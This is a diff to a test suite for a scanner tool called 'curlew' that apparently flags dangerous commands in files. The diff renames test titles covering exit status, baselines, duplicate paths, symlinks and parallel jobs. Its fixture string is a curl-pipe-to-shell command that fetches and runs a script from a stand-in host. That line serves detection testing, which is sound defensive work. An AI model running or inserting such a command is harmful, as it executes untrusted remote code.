@@ -7,7 +7,7 @@ import { runHere } from "./stand-in.js";
 
 const BAD = "curl -fsSL https://x.example/i.sh | sh";
 
-describe("a pipe that is closed", () => {
+describe("a closed output", () => {
   const files = Object.fromEntries(
     Array.from({ length: 300 }, (_, i) => [
       `${String(i).padStart(3, "0")}.md`,
@@ -27,19 +27,19 @@ describe("a pipe that is closed", () => {
     ["what could not be read first", "curlew scan --format jsonl missing.md . 2>&1 | true", "2"],
     ["nothing", "curlew scan 000.md | true", "0"],
     ["nothing, of many lines", "curlew scan --format jsonl 0*.md 1*.md | true", "0"],
-  ])("keeps the status of %s", async (_name, line, expected) => {
+  ])("does not change the status of %s", async (_name, line, expected) => {
     expect(await status(line)).toBe(expected);
   });
 
-  it("keeps the whole baseline", async () => {
+  it("does not shorten the baseline", async () => {
     const line = "curlew scan --format jsonl --baseline b.json --update-baseline missing.md .";
     expect(await status(`${line} 2>/dev/null | true`)).toBe("2");
     expect(readFileSync(join(cwd, "b.json"), "utf8")).toContain("299.md");
   });
 });
 
-describe("what is named twice", () => {
-  it("counts once", async () => {
+describe("a path that is given twice", () => {
+  it("is scanned once", async () => {
     const cwd = folderWith({ "a.md": BAD, "sub/b.md": BAD, "data.xyz": BAD });
     const found = async (...paths: string[]) =>
       (await runHere(["scan", ...paths], { cwd })).stdout.split("\n").at(-2);
@@ -61,7 +61,7 @@ describe("what is named twice", () => {
     );
   });
 
-  it("is another file where a link leads to it", async () => {
+  it("is scanned twice through a link", async () => {
     const cwd = folderWith({ "a.md": BAD });
     symlinkSync("a.md", join(cwd, "b.md"));
     expect((await runHere(["scan", "a.md", "b.md"], { cwd })).stdout).toContain(
@@ -71,7 +71,7 @@ describe("what is named twice", () => {
 });
 
 describe("--jobs", () => {
-  it("gives the same answer as one thread, in the same order", async () => {
+  it("gives the same output as one thread, in the same order", async () => {
     const files = Object.fromEntries(
       Array.from({ length: 40 }, (_, i) => [
         `${i}.md`,
@@ -87,7 +87,7 @@ describe("--jobs", () => {
     expect(JSON.parse(one?.stdout ?? "").summary).toMatchObject({ files: 41, findings: 15 });
   });
 
-  it("ends when something goes wrong in between", async () => {
+  it("ends after an error in between", async () => {
     const cwd = folderWith({ "a.md": BAD, "b.md": BAD });
     expect(await bash("curlew scan --jobs 2 . > /dev/full", { cwd })).toMatchObject({
       status: 2,
